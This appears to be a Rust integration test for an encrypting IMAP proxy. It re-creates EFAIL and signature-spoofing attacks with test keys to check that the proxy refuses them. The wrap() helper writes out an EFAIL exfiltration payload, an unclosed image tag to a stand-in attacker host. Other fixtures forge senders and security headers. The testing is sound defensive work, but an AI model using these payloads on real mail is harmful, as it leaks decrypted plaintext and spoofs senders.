//! Published attacks on encrypted mail, re-created with our own test keys
//! and read through the IMAP proxy from a real Dovecot (issue 8's attack
//! corpus, decrypt path):
//! - EFAIL (2018): a valid encrypted part wrapped in multipart/mixed,
//!   multipart/alternative or multipart/related beside attacker HTML, or
//!   inside an attached message/rfc822; tampered and truncated ciphertext.
//!   Expected: never decrypted next to the attacker's parts (such messages
//!   pass through untouched, still ciphertext), no plaintext released, one
//!   uniform error for tampered integrity-protected data.
//! - Signature spoofing ("Johnny, you are fired", 2019): a valid signature
//!   on a nested part, a signer who is not the From address, a display name
//!   that names someone else, two From fields, a forged status header.
//!   Expected: the status never says `signature=valid` for the message (a
//!   nested signature is not the gateway's to vouch for: no status at all).
//!
//! Each case states the expectation it checks next to the message.

use std::process::Command;
use std::time::{Duration, SystemTime};

use archive::Archive;
use autocrypt::PreferEncrypt;
use base64::Engine as _;
use imap_proxy::proxy::{AccountConfig, Config, Proxy, DEFAULT_PROVIDER_TIMEOUT};
use imap_proxy::upstream::{Endpoint, Security};
use keystore::{KeySource, Keystore, Unlock};
use mailcrypt::{Boundary, EncryptRequest};
use sequoia_openpgp::Cert;
use testbed::Dovecot;

const ALICE: &str = "alice@example.org";
const BOB: &str = "bob@example.org";
const MALLORY: &str = "mallory@evil.example";
const CANARY: &str = "attack-canary";

/// argv: port. Reads every message of INBOX; prints base64 of each, in
/// UID order (the proxy may answer in any order, as IMAP allows).
const READER: &str = r#"
import base64, imaplib, re, sys
m = imaplib.IMAP4("127.0.0.1", int(sys.argv[1]))
m.login("alice", "alicepw")
m.select("INBOX")
typ, data = m.uid("FETCH", "1:*", "(UID BODY.PEEK[])")
found = []
for d in data:
    if isinstance(d, tuple):
        uid = int(re.search(rb"UID (\d+)", d[0]).group(1))
        found.append((uid, d[1]))
for uid, body in sorted(found):
    print(base64.b64encode(body).decode())
m.logout()
"#;

struct Keys {
    alice: Cert,
    bob: Cert,
    mallory: Cert,
}

fn encrypt(keys: &Keys, sender: &Cert, inner: &str) -> String {
    let sealed = mailcrypt::encrypt(
        inner.replace('\n', "\r\n").as_bytes(),
        &EncryptRequest {
            sender,
            recipients: &[keys.alice.clone().strip_secret_key_material()],
            autocrypt: None,
            gossip: &[],
            hide_recipients: false,
            pad: false,
            now: SystemTime::now(),
            boundary: Boundary::Random,
        },
    )
    .expect("encrypt");
    String::from_utf8(sealed).expect("armored")
}

/// Where the base64 data of the (first) armored block is: after the BEGIN
/// line and any armor headers, before the checksum and END lines.
fn armored_data(message: &str) -> std::ops::Range<usize> {
    let begin = message.find("-----BEGIN PGP MESSAGE-----").expect("armor");
    let mut at = begin + message[begin..].find("\r\n").expect("line") + 2;
    // Armor headers ("Comment: …") and the blank line after them.
    while let Some(end) = message[at..].find("\r\n") {
        let line = &message[at..at + end];
        if line.is_empty() || line.contains(": ") {
            at += end + 2;
        } else {
            break;
        }
    }
    let end = at
        + message[at..]
            .find("\r\n=")
            .or_else(|| message[at..].find("\r\n-----END"))
            .expect("armor end");
    at..end
}

/// The multipart/encrypted entity of a whole encrypted message (its
/// Content-Type field and body), to be wrapped by an attacker.
fn encrypted_entity(message: &str) -> String {
    let at = message
        .find("Content-Type: multipart/encrypted")
        .expect("PGP/MIME");
    message[at..].to_string()
}

fn wrap(kind: &str, from: &str, subject: &str, entity: &str) -> String {
    format!(
        "From: {from}\r\nTo: {ALICE}\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/{kind}; boundary=\"evil\"\r\n\r\n\
         --evil\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n\
         --evil\r\n{entity}\r\n--evil\r\nContent-Type: text/html\r\n\r\n\">\r\n--evil--\r\n"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn published_attacks_are_refused_through_the_proxy() {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = Keystore::create(dir.path(), Unlock::KeyFile)
        .await
        .expect("vault");
    let now = SystemTime::now() - Duration::from_secs(600);
    let keys = Keys {
        alice: autocrypt::key::generate(ALICE, now).expect("alice"),
        bob: autocrypt::key::generate(BOB, now).expect("bob"),
        mallory: autocrypt::key::generate(MALLORY, now).expect("mallory"),
    };
    store
        .put_identity(ALICE, &keys.alice, PreferEncrypt::Mutual, now)
        .await
        .expect("identity");
    for peer in [&keys.bob, &keys.mallory] {
        store
            .record_key(peer, KeySource::Import, now)
            .await
            .expect("peer key");
    }
    let archive = Archive::open(&store).await.expect("archive");
    let dovecot = tokio::task::spawn_blocking(|| Dovecot::start(&[("alice", "alicepw")]))
        .await
        .expect("dovecot");

    let from_bob = |subject: &str| {
        encrypt(
            &keys,
            &keys.bob,
            &format!(
                "From: {BOB}\nTo: {ALICE}\nSubject: {subject}\nContent-Type: text/plain\n\n{CANARY} {subject}\n"
            ),
        )
    };
    let valid = from_bob("genuine");
    let entity = encrypted_entity(&valid);

    // (name, message, what the status must show, what it must not)
    let mut cases: Vec<(&str, String, &[&str], &[&str])> = Vec::new();
    // EFAIL direct exfiltration: the encrypted part beside attacker HTML.
    for kind in ["mixed", "alternative", "related"] {
        cases.push((
            kind,
            wrap(kind, BOB, &format!("efail {kind}"), &entity),
            &[],
            &["signature=valid"],
        ));
    }
    // The encrypted message as an attachment.
    cases.push((
        "attached",
        format!(
            "From: {BOB}\r\nTo: {ALICE}\r\nSubject: fwd\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/mixed; boundary=\"evil\"\r\n\r\n--evil\r\n\
             Content-Type: text/plain\r\n\r\nsee attached\r\n--evil\r\n\
             Content-Type: message/rfc822\r\n\r\n{valid}\r\n--evil--\r\n"
        ),
        &[],
        &["signature=valid"],
    ));
    // Tampered ciphertext (CFB/CBC gadgets need malleable ciphertext: any
    // change must fail the integrity check, with the same words each time).
    let data = armored_data(&valid);
    // Early bytes are the session key's packet (its damage means "no-key":
    // nothing about the content can be learned); later ones are the
    // integrity-protected data, where every change reads the same.
    let tampered: [(&str, usize, &[&str]); 3] = [
        ("tamper-session-key", 10, &["decryption=failed"]),
        (
            "tamper-middle",
            50,
            &["decryption=failed", "reason=integrity"],
        ),
        (
            "tamper-late",
            90,
            &["decryption=failed", "reason=integrity"],
        ),
    ];
    for (name, share, expected) in tampered {
        let mut bytes = valid.clone().into_bytes();
        let i = data.start + (data.end - data.start) * share / 100;
        let i = i + bytes[i..]
            .iter()
            .position(u8::is_ascii_alphanumeric)
            .unwrap_or(0);
        bytes[i] = if bytes[i] == b'A' { b'B' } else { b'A' };
        cases.push((
            name,
            String::from_utf8(bytes).expect("ascii"),
            expected,
            &["signature=valid"],
        ));
    }
    // Cut short: the end of the ciphertext is missing.
    let mut truncated = valid.clone();
    truncated.replace_range(data.start + (data.end - data.start) / 2..data.end, "");
    cases.push((
        "truncated",
        truncated,
        &["decryption=failed"],
        &["signature=valid"],
    ));
    // A signed part nested under cleartext ("Johnny, you are fired").
    let signed = String::from_utf8(
        mailcrypt::sign(
            format!("From: {BOB}\r\nTo: {ALICE}\r\nSubject: signed\r\n\r\nsigned words\r\n")
                .as_bytes(),
            &keys.bob,
            SystemTime::now(),
            &Boundary::Random,
        )
        .expect("sign"),
    )
    .expect("ascii");
    let signed_entity = &signed[signed
        .find("Content-Type: multipart/signed")
        .expect("signed")..];
    cases.push((
        "nested-signature",
        format!(
            "From: {BOB}\r\nTo: {ALICE}\r\nSubject: you are fired\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/mixed; boundary=\"evil\"\r\n\r\n--evil\r\n\
             Content-Type: text/plain\r\n\r\nYou are fired.\r\n--evil\r\n{signed_entity}\r\n--evil--\r\n"
        ),
        &[],
        &["signature=valid"],
    ));
    // Signed and encrypted by Mallory, From: Bob.
    cases.push((
        "signer-is-not-from",
        encrypt(
            &keys,
            &keys.mallory,
            &format!("From: {BOB}\nTo: {ALICE}\nSubject: mismatch\n\n{CANARY} from mallory\n"),
        ),
        &["encrypted", "signature=mismatch"],
        &["signature=valid", "signer=bob"],
    ));
    // A display name that names Bob, an address that is Mallory's.
    cases.push((
        "display-name",
        encrypt(
            &keys,
            &keys.mallory,
            &format!(
                "From: \"{BOB}\" <{MALLORY}>\nTo: {ALICE}\nSubject: display\n\n{CANARY} display\n"
            ),
        ),
        &["signer=mallory@evil.example"],
        &["signer=bob"],
    ));
    // Two From fields: nobody's signature can cover "the" sender.
    cases.push((
        "two-from",
        encrypt(
            &keys,
            &keys.bob,
            &format!("From: {BOB}\nFrom: {MALLORY}\nTo: {ALICE}\nSubject: two\n\n{CANARY} two\n"),
        ),
        &["encrypted"],
        &["signature=valid"],
    ));
    // A status header forged outside an unsigned encrypted message.
    let unsigned = mailcrypt::encrypt(
        format!("From: {BOB}\r\nTo: {ALICE}\r\nSubject: unsigned\r\n\r\n{CANARY} unsigned\r\n")
            .as_bytes(),
        &EncryptRequest {
            sender: &keys.bob,
            recipients: &[keys.alice.clone().strip_secret_key_material()],
            autocrypt: None,
            gossip: &[],
            hide_recipients: false,
            pad: false,
            now: SystemTime::now(),
            boundary: Boundary::Random,
        },
    )
    .expect("encrypt");
    let unsigned = String::from_utf8(unsigned).expect("ascii");
    cases.push((
        "forged-status",
        unsigned.replacen(
            "From: ",
            "Letterlock-Security: encrypted; signature=valid; signer=bob@example.org; key=verified\r\nFrom: ",
            1,
        ),
        &["encrypted"],
        &["key=verified"],
    ));

    for (_, message, _, _) in &cases {
        dovecot.save("alice", "INBOX", message.as_bytes());
    }
    let proxy = Proxy::bind(
        Config {
            listen: "127.0.0.1:0".parse().expect("address"),
            tls: None,
            provider_timeout: DEFAULT_PROVIDER_TIMEOUT,
            accounts: vec![AccountConfig {
                address: ALICE.into(),
                username: "alice".into(),
                provider: Endpoint {
                    host: "localhost".into(),
                    port: dovecot.imaps_port,
                    security: Security::Tls,
                    ca_file: Some(dovecot.ca_file.clone()),
                },
            }],
        },
        store,
        archive,
    )
    .await
    .expect("bind");
    let port = proxy.local_addr().expect("addr").port();
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    tokio::spawn(proxy.run(async {
        let _ = stopped.await;
    }));
    let out = tokio::task::spawn_blocking(move || {
        Command::new("python3")
            .args(["-c", READER, &port.to_string()])
            .output()
            .expect("python3")
    })
    .await
    .expect("reader");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let served: Vec<String> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| {
            let raw = base64::engine::general_purpose::STANDARD
                .decode(l)
                .expect("base64");
            String::from_utf8_lossy(&raw).into_owned()
        })
        .collect();
    assert_eq!(served.len(), cases.len());

    let mut failures = Vec::new();
    for ((name, _, must, must_not), message) in cases.iter().zip(&served) {
        let statuses: Vec<&str> = message
            .split("\r\n\r\n")
            .next()
            .unwrap_or_default()
            .lines()
            .filter(|l| l.to_ascii_lowercase().starts_with("letterlock-security:"))
            .collect();
        let status = statuses.join(" | ");
        // More than one is always wrong; none is right only for messages
        // the gateway leaves alone (it decrypted and verified nothing).
        if statuses.len() > 1 || (statuses.is_empty() && !must.is_empty()) {
            failures.push(format!(
                "{name}: {} status headers: {status}",
                statuses.len()
            ));
        }
        for want in *must {
            if !status.contains(want) {
                failures.push(format!("{name}: status lacks {want:?}: {status}"));
            }
        }
        for unwanted in *must_not {
            if status.contains(unwanted) {
                failures.push(format!("{name}: status says {unwanted:?}: {status}"));
            }
        }
        // Where nothing was decrypted, no plaintext was released.
        if !status.contains("encrypted; signature=") && message.contains(CANARY) {
            failures.push(format!("{name}: plaintext released"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    let _ = stop.send(());
}
